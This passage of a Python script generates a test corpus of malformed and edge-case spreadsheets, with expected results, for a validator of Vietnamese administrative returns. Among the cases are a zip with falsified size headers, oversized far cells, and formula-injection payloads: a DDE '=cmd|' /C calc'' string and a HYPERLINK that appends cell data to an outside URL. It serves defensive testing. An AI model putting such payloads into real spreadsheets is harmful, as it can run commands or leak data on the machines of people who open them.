    the zip headers declare its original size: every limit passes on the
    declared sizes. The zip reader must stop at the declared size: corrupt."""
    src = work / "sizes-lie-source.xlsx"
    shutil.copy(filled(work), src)
    normalize(src)
    part = "xl/worksheets/sheet2.xml"
    with zipfile.ZipFile(src) as z:
        xml = z.read(part)
    head, tail = xml.split(b"<sheetData>", 1)
    with zipfile.ZipFile(dst, "w", compresslevel=9) as z:
        for info, data in zip_parts(src):
            if info.filename != part:
                z.writestr(fixed_info(info.filename), data)
                continue
            with z.open(fixed_info(part), "w") as f:
                f.write(head + b"<sheetData>")
                blanks = b" " * MB
                for _ in range(210):
                    f.write(blanks)
                f.write(tail)
    data = bytearray(dst.read_bytes())
    with zipfile.ZipFile(dst) as z:
        info = z.getinfo(part)
    assert data[info.header_offset:info.header_offset + 4] == b"PK\x03\x04"
    struct.pack_into("<I", data, info.header_offset + 22, len(xml))  # local header: uncompressed size
    central = data.find(b"PK\x01\x02")
    while data[central + 46:central + 46 + len(part)] != part.encode():
        central = data.find(b"PK\x01\x02", central + 4)
    struct.pack_into("<I", data, central + 24, len(xml))  # central directory: uncompressed size
    dst.write_bytes(bytes(data))
    with zipfile.ZipFile(dst) as z:
        assert z.getinfo(part).file_size == len(xml)
    return expect("corrupt-workbook")


@case("46-xls-note-mentions-encryptioninfo.xls")
def _xls_note(work, dst):
    """A sound .xls (LibreOffice) whose note cell for 1.2.a reads "Xem tệp đính kèm
    EncryptionInfo.pdf": Vietnamese text is stored as UTF-16, so the stream name
    the password check looks for appears in the bytes → must still be accepted."""
    def change(book):
        sheet = book[INPUT_SHEET]
        sheet.cell(input_row_of(sheet, "1.2.a"), 6).value = "Xem tệp đính kèm EncryptionInfo.pdf"
    src = work / "note.xlsx"
    edit(filled(work), src, change)
    libreoffice_copy(work, src, "xls", dst)
    return expect()


# --- a real inbox: what Excel, LibreOffice and units' own hands leave in a return ---------

def _devmode() -> bytes:
    """An Excel printer-settings part (a Windows DEVMODE): the device name in UTF-16LE,
    then binary fields; its second byte is a NUL, without a byte-order mark."""
    name = "Microsoft Print to PDF".encode("utf-16-le").ljust(64, b"\x00")
    fields = struct.pack("<HHHHIhhhhhhhhhh", 0x0401, 0x0401, 220, 0, 0x0001_030F, 1, 9, 0, 0, 100, 1, 7, 600, 1, 1)
    return (name + fields).ljust(1252, b"\x00")


@case("47-printer-settings.xlsx")
def _printer_settings(work, dst):
    """The input sheet printed once in Excel: xl/printerSettings/printerSettings1.bin
    (binary, starts "M\\0i\\0") tied to the sheet's page setup → accepted."""
    src, part = filled(work), "xl/worksheets/sheet2.xml"
    with zipfile.ZipFile(src) as z:
        xml, types = z.read(part), z.read("[Content_Types].xml")
    rel_ns = b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
    if rel_ns not in xml:
        xml = xml.replace(b"<worksheet ", b"<worksheet " + rel_ns + b" ", 1)
    xml, n = re.subn(rb"<pageSetup ", b'<pageSetup r:id="rId1" ', xml, count=1)
    assert n == 1
    types = types.replace(b"<Default ", b'<Default Extension="bin" ContentType="application/vnd.openxmlformats-'
                                        b'officedocument.spreadsheetml.printerSettings"/><Default ', 1)
    rels = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            b'printerSettings" Target="../printerSettings/printerSettings1.bin"/></Relationships>')
    replace_parts(src, dst, {part: xml, "[Content_Types].xml": types},
                  [("xl/worksheets/_rels/sheet2.xml.rels", rels), ("xl/printerSettings/printerSettings1.bin", _devmode())])
    return expect()


def _emf() -> bytes:
    """A minimal EMF picture: header record (type 1, " EMF" signature), then EOF."""
    header = struct.pack("<II4i4i4sIIIHHIII2i2i", 1, 88, 0, 0, 99, 49, 0, 0, 2646, 1323, b" EMF", 0x10000, 108, 2,
                         0, 0, 0, 0, 0, 1920, 1080, 508, 285)
    return header + struct.pack("<IIIII", 14, 20, 0, 16, 20)


@case("48-emf-picture.xlsx")
def _emf_picture(work, dst):
    """A logo pasted as an EMF picture (xl/media/image1.emf, binary, starts 01 00 00 00) → accepted."""
    src = filled(work)
    with zipfile.ZipFile(src) as z:
        types = z.read("[Content_Types].xml")
    types = types.replace(b"<Default ", b'<Default Extension="emf" ContentType="image/x-emf"/><Default ', 1)
    replace_parts(src, dst, {"[Content_Types].xml": types}, [("xl/media/image1.emf", _emf())])
    return expect()


def far_cell_xml(xml: bytes, ref: str = "XFD1048576") -> bytes:
    """A sheet's XML with one more cell, holding "x", at `ref` (its own last row)."""
    row = re.sub(r"[A-Z]", "", ref)
    cell = f'<row r="{row}"><c r="{ref}" t="inlineStr"><is><t>x</t></is></c></row>'.encode()
    return xml.replace(b"</sheetData>", cell + b"</sheetData>")


@case("49-far-cell.xlsx")
def _far_cell(work, dst):
    """One "x" typed at XFD1048576 of the input sheet (a 21 KB file): calamine would build
    a dense grid of 512 GiB; the reader names the cell instead."""
    src, part = filled(work), "xl/worksheets/sheet2.xml"
    with zipfile.ZipFile(src) as z:
        xml = z.read(part)
    replace_parts(src, dst, {part: far_cell_xml(xml)})
    return expect("sheet-too-large", sheet=INPUT_SHEET, cell="XFD1048576")


@case("50-far-cell-guide.ods")
def _far_cell_ods(work, dst):
    """Saved by LibreOffice as .ods with an "x" at XFD1048576 of the guide sheet: calamine
    reads every table of an .ods when it opens it, so this one is refused too."""
    src, part = filled(work), "xl/worksheets/sheet1.xml"
    with zipfile.ZipFile(src) as z:
        xml = z.read(part)
    staged = work / "far-guide.xlsx"
    replace_parts(src, staged, {part: far_cell_xml(xml)})
    keep_or_convert(work, staged, "ods", dst)
    return expect("sheet-too-large", sheet="Hướng dẫn", cell="XFD1048576")


def _set_cell(field_id: str, value, column: int = 5):
    def change(book):
        sheet = book[INPUT_SHEET]
        sheet.cell(input_row_of(sheet, field_id), column).value = value
    return change


@case("51-true-in-number.xlsx")
def _true_in_number(work, dst):
    """TRUE (a boolean cell, as Excel stores it) in 1.2.b, a count: not 1, not a number."""
    edit(filled(work), dst, _set_cell("1.2.b", True))
    return expect("not-a-number", sheet=INPUT_SHEET, cell=field_cell(dst, "1.2.b"), field="1.2.b")


@case("52-true-in-yes-no.xlsx")
def _true_in_yes_no(work, dst):
    """TRUE in 2.1, a yes/no field: read as yes → accepted."""
    edit(filled(work), dst, _set_cell("2.1", True))
    return expect()


def _unit_formulas(work) -> Path:
    """The filled workbook with 1.2.a = "=7/0" and 1.3.a = "=NA()" typed by the unit, and
    1.2.b = TRUE, for LibreOffice to compute and save."""
    src = work / "unit-formulas.xlsx"
    if not src.exists():
        def change(book):
            for field_id, value in (("1.2.a", "=7/0"), ("1.3.a", "=NA()"), ("1.2.b", True)):
                _set_cell(field_id, value)(book)
        edit(filled(work), src, change)
    return src


@case("53-error-value.ods")
def _error_ods(work, dst):
    """LibreOffice .ods with #DIV/0! in 1.2.a (and #N/A in 1.3.a, TRUE in 1.2.b): errors
    are not blanks, TRUE is not 1."""
    libreoffice_copy(work, _unit_formulas(work), "ods", dst)
    return expect("not-a-number", sheet=INPUT_SHEET, cell=field_cell(filled(work), "1.2.a"), field="1.2.a")


@case("54-error-value.xls")
def _error_xls(work, dst):
    """The same saved by LibreOffice as Excel 97-2003 .xls."""
    libreoffice_copy(work, _unit_formulas(work), "xls", dst)
    return expect("not-a-number", sheet=INPUT_SHEET, cell=field_cell(filled(work), "1.2.a"), field="1.2.a")


@case("55-password-protected.ods")
def _password_ods(work, dst):
    """Saved by LibreOffice with a password (dti2023) as .ods."""
    password_copy(work, filled(work), "calc8", dst)
    return expect("password-protected")


@case("56-password-protected.xls")
def _password_xls(work, dst):
    """Saved by LibreOffice with a password (dti2023) as .xls (a FILEPASS record)."""
    password_copy(work, filled(work), "MS Excel 97", dst)
    return expect("password-protected")


@case("57-libreoffice.xlsx")
def _libreoffice_xlsx(work, dst):
    """The filled workbook saved by LibreOffice Calc as .xlsx → accepted."""
    libreoffice_copy(work, filled(work), "xlsx", dst)
    return expect()


@case("58-implausible-number.xlsx")
def _implausible(work, dst):
    """6.4.a (a count in a Min-Max-free ratio) holds 1e308: far above any count of one unit."""
    edit(filled(work), dst, _set_cell("6.4.a", 1e308))
    return expect("implausible-number", sheet=INPUT_SHEET, cell=field_cell(dst, "6.4.a"), field="6.4.a")


@case("59-na-beside-a-figure.xlsx")
def _na_mixed(work, dst):
    """1.4: "Chưa có chuyên mục" in the first field and N/A typed in the posts count: not
    applicable and reported at once (full points before; the decision says 0)."""
    def change(book):
        _set_cell("1.4.a", "Chưa có chuyên mục")(book)
        _set_cell("1.4.b", "N/A")(book)
    edit(filled(work), dst, change)
    return expect("mixed-not-applicable", sheet=INPUT_SHEET, cell=field_cell(dst, "1.4.b"), field="1.4.b")


@case("60-na-in-every-field.xlsx")
def _na_all(work, dst):
    """N/A typed in both fields of 1.2: the item is not applicable → accepted."""
    def change(book):
        _set_cell("1.2.a", "N/A")(book)
        _set_cell("1.2.b", "không áp dụng")(book)
    edit(filled(work), dst, change)
    return expect()


@case("61-field-row-deleted.xlsx")
def _row_deleted(work, dst):
    """The row of 3.2.b deleted by the unit: not a blank, an error."""
    def change(book):
        sheet = book[INPUT_SHEET]
        sheet.delete_rows(input_row_of(sheet, "3.2.b"))
    edit(filled(work), dst, change)
    return expect("missing-field", sheet=INPUT_SHEET, field="3.2.b")


@case("62-letterhead.xlsx")
def _letterhead(work, dst):
    """A 40-row letterhead pasted above the title block: the header is found below it → accepted."""
    def change(book):
        sheet = book[INPUT_SHEET]
        sheet.insert_rows(1, 40)
        sheet.cell(1, 1).value = "ỦY BAN NHÂN DÂN THÀNH PHỐ HỒ CHÍ MINH"
        sheet.cell(2, 1).value = "SỞ THÔNG TIN VÀ TRUYỀN THÔNG"
    edit(filled(work), dst, change)
    return expect()


@case("63-stamp-of-another-unit.xlsx")
def _stamp_copied(work, dst):
    """so-tttt's workbook with the stamp sheet of so-gtvt (a copied _meta): the visible
    title still says so-tttt."""
    edit(filled(work), dst, _meta_edit("unit_code", "so-gtvt"))
    return expect("unit-title-mismatch", sheet=INPUT_SHEET)


@case("64-saved-in-2099.xlsx")
def _future_stamp(work, dst):
    """A save stamp in 2099: a warning, and it does not win by itself."""
    src = work / "future-source.xlsx"
    shutil.copy(filled(work), src)
    normalize(src)
    with zipfile.ZipFile(src) as z:
        core = z.read("docProps/core.xml")
    core = re.sub(rb"(<dcterms:modified[^>]*>)[^<]*", rb"\g<1>2099-01-01T00:00:00Z", core)
    replace_parts(src, dst, {"docProps/core.xml": core})
    return expect("suspicious-save-time")


@case("65-flat-ods.fods")
def _fods(work, dst):
    """The return saved by LibreOffice as a flat XML spreadsheet (.fods)."""
    keep_or_convert(work, filled(work), "fods", dst)
    return expect("unsupported-format")


def _xml_text(text: str) -> bytes:
    """Cell text as OOXML stores it: XML-escaped, control characters as _xHHHH_ (Excel's way)."""
    escaped = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")
    escaped = re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", lambda m: f"_x{ord(m.group(0)):04X}_", escaped)
    return escaped.encode("utf-8")


def text_cells(src: Path, dst: Path, texts: dict[str, str]) -> None:
    """`src` with cells (A1 refs of the input sheet) holding these texts as typed: written
    into the XML, since openpyxl makes "=..." a formula and refuses control characters."""
    part = "xl/worksheets/sheet2.xml"
    with zipfile.ZipFile(src) as z:
        xml = z.read(part)
    for ref, text in texts.items():
        body = b' t="inlineStr"><is><t xml:space="preserve">' + _xml_text(text) + b"</t></is></c>"
        xml, n = re.subn(rb'<c r="' + ref.encode() + rb'"( s="\d+")?[^>]*?(/>|>.*?</c>)',
                         lambda m: b'<c r="' + ref.encode() + b'"' + (m.group(1) or b"") + body, xml, count=1)
        assert n == 1, ref
    replace_parts(src, dst, {part: xml})


@case("66-formula-text.xlsx")
def _formula_text(work, dst):
    """Text a spreadsheet runs when a CSV cell starts with it: =HYPERLINK in 1.2.a, a tab
    then =cmd in 1.2.b, -2+3 in 1.3.a, @SUM in 1.2.a's note."""
    src = filled(work)
    cells = {field_id: field_cell(src, field_id) for field_id in ("1.2.a", "1.2.b", "1.3.a")}
    text_cells(src, dst, {
        cells["1.2.a"]: '=HYPERLINK("http://example.invalid/?d="&A1,"Bấm vào đây")',
        cells["1.2.b"]: "\t=cmd|' /C calc'!A0",
        cells["1.3.a"]: "-2+3",
        "F" + cells["1.2.a"][1:]: "@SUM(1+1)*cmd|' /C calc'!A0",
    })
    return expect("not-a-number", sheet=INPUT_SHEET, cell=cells["1.2.a"], field="1.2.a")


@case("67-control-characters.xlsx")
def _control_chars(work, dst):
    """A form feed in 1.2.b ("1\\f2") and a bell and a vertical tab in its note."""
    src = filled(work)
    cell = field_cell(src, "1.2.b")
    text_cells(src, dst, {cell: "1\x0c2", "F" + cell[1:]: "Xem\x07 văn bản\x0b số 12"})
    return expect("not-a-number", sheet=INPUT_SHEET, cell=cell, field="1.2.b")


@case("68-huge-number-libreoffice.xlsx")
def _huge_number_libreoffice(work, dst):
    """1e30 in 6.4.a, saved by LibreOffice Calc: an implausible number with more digits than
    Babel formats; the run must still write it back whole in the unit's feedback."""
    src = work / "huge-number.xlsx"
    edit(filled(work), src, _set_cell("6.4.a", 1e30))
    libreoffice_copy(work, src, "xlsx", dst)
    return expect("implausible-number", sheet=INPUT_SHEET, cell=field_cell(dst, "6.4.a"), field="6.4.a")


def keep_or_convert(work: Path, src: Path, fmt: str, dst: Path) -> None:
    """`src` saved by LibreOffice as `fmt`, unless the corpus already has this file: the
    file is compared by what the reader says of it, not by its bytes (LibreOffice
    orders parts differently from run to run)."""
    existing = OUT / dst.name
    if existing.exists():
        shutil.copy(existing, dst)
        return
    staged = work / "lo" / dst.with_suffix(".xlsx").name
    staged.parent.mkdir(exist_ok=True)
    shutil.copy(src, staged)
    shutil.copy(soffice_convert(staged, fmt, staged.parent / "saved"), dst)


PASSWORD_MACRO = """<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE script:module PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "module.dtd">
<script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1" script:language="StarBasic">
Sub SaveWithPassword
  Dim load(0) As New com.sun.star.beans.PropertyValue
  load(0).Name = "Hidden" : load(0).Value = True
  doc = StarDesktop.loadComponentFromURL(ConvertToURL(Environ("CORPUS_SRC")), "_blank", 0, load())
  Dim store(1) As New com.sun.star.beans.PropertyValue
  store(0).Name = "FilterName" : store(0).Value = Environ("CORPUS_FILTER")
  store(1).Name = "Password" : store(1).Value = Environ("CORPUS_PASSWORD")
  doc.storeToURL(ConvertToURL(Environ("CORPUS_DST")), store())
  doc.close(True)
End Sub
</script:module>
"""


def password_copy(work: Path, src: Path, filter_name: str, dst: Path) -> None:
    """`src` saved by LibreOffice with the password "dti2023" (a Basic macro run headless);
    encryption is random, so a file already in the corpus is kept."""
    existing = OUT / dst.name
    if existing.exists():
        shutil.copy(existing, dst)
        return
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if soffice is None:
        raise SystemExit("LibreOffice (soffice) is needed for the password-protected .ods and .xls")
    profile = work / "lo-macro-profile"
    run = [soffice, f"-env:UserInstallation={profile.as_uri()}", "--headless"]
    if not (profile / "user" / "basic" / "Standard").exists():
        subprocess.run(run + ["--terminate_after_init"], check=True, capture_output=True, timeout=300)
    (profile / "user" / "basic" / "Standard" / "Module1.xba").write_text(PASSWORD_MACRO, encoding="utf-8")
    env = {**os.environ, "CORPUS_SRC": str(src), "CORPUS_DST": str(dst), "CORPUS_FILTER": filter_name,
           "CORPUS_PASSWORD": "dti2023"}
    subprocess.run(run + ["vnd.sun.star.script:Standard.Module1.SaveWithPassword?language=Basic&location=application"],
                   check=True, capture_output=True, timeout=300, env=env)
    if not dst.exists():
        raise SystemExit(f"LibreOffice did not write {dst.name}")


# Cases whose zip is written with fixed dates already, and must not be rewritten
# (normalizing would inflate the bombs, or fail on the lying sizes).
SELF_NORMALIZED = {"07-zip-bomb-size.xlsx", "08-zip-bomb-ratio.xlsx", "45-zip-sizes-lie.xlsx",
                   "50-far-cell-guide.ods", "55-password-protected.ods", "64-saved-in-2099.xlsx"}


# --- main -------------------------------------------------------------------------

def main() -> None:
    from dti_report.core.issues import CODES

    OUT.mkdir(exist_ok=True)
    rows = []
    written = set()
    with tempfile.TemporaryDirectory() as tmp:
        work = Path(tmp)
        for name, build in CASES:
            dst = work / "out" / name
            dst.parent.mkdir(parents=True, exist_ok=True)
            expected = build(work, dst)
            if zipfile.is_zipfile(dst) and name not in SELF_NORMALIZED:
                normalize(dst)
            final = OUT / name
            final.parent.mkdir(parents=True, exist_ok=True)
            shutil.copyfile(dst, final)
            final.chmod(0o644)
            written.add(final)
            code = expected["code"]
            rows.append({"file": name, "code": code, "severity": CODES[code][0] if code else "",
                         "sheet": expected["sheet"], "cell": expected["cell"], "field": expected["field"]})
            print(f"{name:45} {code or 'accepted'}")
    for path in sorted(OUT.rglob("*"), reverse=True):  # files of cases since removed
        if path.is_file() and path not in written and path.name != "expected.csv":
            path.unlink()
        elif path.is_dir() and not any(path.iterdir()):
            path.rmdir()
    with open(OUT / "expected.csv", "w", newline="", encoding="utf-8") as f:
        writer = csv.DictWriter(f, ["file", "code", "severity", "sheet", "cell", "field"], lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows)


if __name__ == "__main__":
    main()
